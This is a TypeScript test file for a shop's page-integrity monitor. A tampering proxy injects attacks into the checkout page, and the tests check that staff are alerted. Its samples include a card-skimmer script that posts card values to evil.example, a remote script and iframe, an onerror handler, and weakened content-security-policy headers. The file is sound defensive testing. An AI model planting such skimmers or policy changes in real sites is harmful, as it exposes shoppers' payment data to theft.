import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from 'vitest';
import { constantScripts } from '#modules/page-guard/inline-scripts.ts';
import { readPageInventory } from '#platform/page-inventory/page-inventory.ts';
import { createAdminBrowser } from '#tests/kit/staff-client.ts';
import { createTestShop } from '#tests/kit/test-shop.ts';
import { casesOf } from '#tests/kit/torture.ts';
import { afterFile } from '#tests/kit/undo.ts';
import { lookAtPages } from './look-at-pages.ts';

const shop = await createTestShop({}, { hasFiles: true });
const owner = await createAdminBrowser(shop);
const inventory = readPageInventory();
if (!inventory) throw new Error('The pages are not built: run `npm run build`');
const pages = inventory;
const [checkout] = pages.pages;

type Answer = { status: number; headers: Record<string, string>; body: string };

/** Simulates an attacker between server and shopper who changes answers. */
let tamper: (path: string, answer: Answer) => void = () => {};

const answers = new Map<string, Answer>();

async function answerOf(path: string): Promise<Answer> {
  const answer = await shop.app.inject({ url: path, headers: { host: 'localhost' } });
  const plain = Object.entries(answer.headers).map(([name, value]) => [name, String(value)]);
  return { status: answer.statusCode, headers: Object.fromEntries(plain), body: answer.body };
}

const front = createServer(async (request, response) => {
  const path = request.url ?? '/';
  const sent = answers.get(path) ?? (await answerOf(path));
  // Files don't change while the test runs.
  if (path.startsWith('/assets/')) answers.set(path, sent);
  const seen = { ...sent, headers: { ...sent.headers } };
  tamper(path, seen);
  delete seen.headers['content-length'];
  delete seen.headers['transfer-encoding'];
  response.writeHead(seen.status, seen.headers).end(seen.body);
});
await new Promise<void>((done) => front.listen(0, '127.0.0.1', done));
afterFile(async () => {
  front.closeAllConnections();
  await new Promise((done) => front.close(done));
});
const publicUrl = `http://127.0.0.1:${(front.address() as AddressInfo).port}`;

/** Runs the task once, and returns what staff read afterwards. */
async function look(looked = { pages: pages.pages.slice(0, 1) }): Promise<string[]> {
  const { db } = shop.services.database.background;
  await lookAtPages({ db, publicUrl, inventory: looked, paypal: 'none' }).catch(() => {});
  const { rows } = await shop.database.db.execute<{ title: string; error: string }>(
    'select title, last_error as error from job_failures order by row_key',
  );
  return rows.map(({ title, error }) => `${title}: ${error}`);
}

test('every file of the three pages stands in the inventory with hash and reason', () => {
  expect(inventory.pages.map(({ path }) => path)).toEqual([
    '/checkout',
    '/pay/looked-at',
    '/admin/login',
  ]);
  for (const { files } of inventory.pages) {
    expect(files.length).toBeGreaterThan(10);
    for (const { file, integrity, reason } of files) {
      expect(file).toMatch(/^\/assets\/[\w.-]+\.js$/);
      expect(integrity).toMatch(/^sha256-[\w+/]{43}=$/);
      expect(reason.length).toBeGreaterThan(10);
    }
  }
  expect(Object.values(constantScripts).every((reason) => reason.length > 10)).toBe(true);
});

test('the pages as they were released differ in nothing', async () => {
  expect(await look(pages)).toEqual([]);
});

test('the browser is told the hash of each file before it asks for one', async () => {
  for (const { path, files } of inventory.pages) {
    const { body, headers } = await shop.app.inject({ url: path, headers: { host: 'localhost' } });
    const map = /<script type="importmap">(.*?)<\/script>/.exec(body)?.[1] ?? '{}';
    expect(Object.keys(JSON.parse(map).integrity)).toEqual(files.map(({ file }) => file));
    expect(body).not.toContain('rel="modulepreload"');
    expect(headers['content-security-policy']).toContain("script-src 'self' 'sha256-");
  }
  const { body } = await shop.app.inject({ url: '/about', headers: { host: 'localhost' } });
  expect(body).not.toContain('importmap');
});

const skimmer = "<script>fetch('https://evil.example',{method:'POST',body:card.value})</script>";
const policy = 'content-security-policy';
const onCheckout =
  (change: (answer: Answer) => void) =>
  (path: string, answer: Answer): void => {
    if (path === '/checkout') change(answer);
  };

type Tampering = [what: string, change: typeof tamper, expected: RegExp];

const everyday: readonly Tampering[] = [
  [
    'a script in the page',
    onCheckout((answer) => {
      answer.body = answer.body.replace('</head>', `${skimmer}</head>`);
    }),
    /A script was added: fetch\('https:\/\/evil/,
  ],
  [
    'a changed file',
    (path, answer) => {
      if (path === checkout?.files[5]?.file) answer.body += ';steal()';
    },
    /A script was changed: \/assets\//,
  ],
  [
    'a changed service worker',
    (path, answer) => {
      if (path === '/service-worker.js') answer.body += ';steal()';
    },
    /A script was changed: \/service-worker\.js/,
  ],
  [
    'a policy that allows another host',
    onCheckout(({ headers }) => {
      headers[policy] = (headers[policy] ?? '').replace(
        "connect-src 'self'",
        "connect-src 'self' https://evil.example",
      );
    }),
    /The policy allows more: connect-src https:\/\/evil\.example/,
  ],
  [
    'no policy at all',
    onCheckout(({ headers }) => {
      delete headers[policy];
    }),
    /A header is missing: content-security-policy/,
  ],
];

const others: readonly Tampering[] = [
  [
    'a script of another host',
    onCheckout((answer) => {
      answer.body = answer.body.replace('</head>', '<script src=//evil.example/a.js></script>');
    }),
    /A script was added: \/\/evil\.example\/a\.js/,
  ],
  [
    'code behind the data of the page',
    onCheckout((answer) => {
      answer.body = answer.body.replace(
        /(\.enqueue\("(?:[^"\\]|\\.)*"\);)/,
        (data) => `${data}steal();`,
      );
    }),
    /A script was added: window\.__reactRouterContext/,
  ],
  [
    'a module among ours',
    onCheckout((answer) => {
      answer.body = answer.body.replace(
        'import "/assets/',
        'import "/assets/evil.js";import "/assets/',
      );
    }),
    /added/,
  ],
  [
    'a handler in the markup',
    onCheckout((answer) => {
      answer.body = answer.body.replace('<body', '<img src=x onerror=steal()><body');
    }),
    /Markup was added: <img src=x onerror=steal\(\)/,
  ],
  [
    'a frame',
    onCheckout((answer) => {
      answer.body = answer.body.replace('</body>', '<iframe src="//evil.example"></iframe></body>');
    }),
    /Markup was added: <iframe/,
  ],
  [
    'a file that is gone',
    (path, answer) => {
      if (path === checkout?.files[5]?.file) answer.status = 404;
    },
    /A script could not be fetched: \/assets\//,
  ],
  [
    'a policy that allows inline scripts',
    onCheckout(({ headers }) => {
      headers[policy] = (headers[policy] ?? '').replace(
        "script-src 'self'",
        "script-src 'self' 'unsafe-inline'",
      );
    }),
    /The policy allows more: script-src 'unsafe-inline'/,
  ],
  [
    'a policy without a word',
    onCheckout(({ headers }) => {
      headers[policy] = (headers[policy] ?? '').replace("; frame-ancestors 'none'", '');
    }),
    /The policy lost frame-ancestors/,
  ],
  [
    'a weaker header',
    onCheckout(({ headers }) => {
      headers['x-frame-options'] = 'SAMEORIGIN';
    }),
    /A header was changed: x-frame-options: SAMEORIGIN/,
  ],
];

test.for(casesOf(everyday, [...everyday, ...others]))(
  '%s is found at the next run, and forgotten when it is gone',
  async ([, change, expected]) => {
    tamper = change;
    const found = await look();
    const said = found.find((line) =>
      line.startsWith('The page /checkout is not as it was released: '),
    );
    expect(said).toMatch(expected);
    tamper = () => {};
    expect(await look()).toEqual([]);
  },
);

test('what was planted stands under ‘Needs attention’', async () => {
  tamper = onCheckout((answer) => {
    answer.body = answer.body.replace('</head>', `${skimmer}</head>`);
  });
  await look();
  const { body } = await owner.call('GET', '/api/admin/attention');
  expect(body).toContain('The page /checkout is not as it was released');
  expect(body).toContain('A script was added');
  tamper = () => {};
});
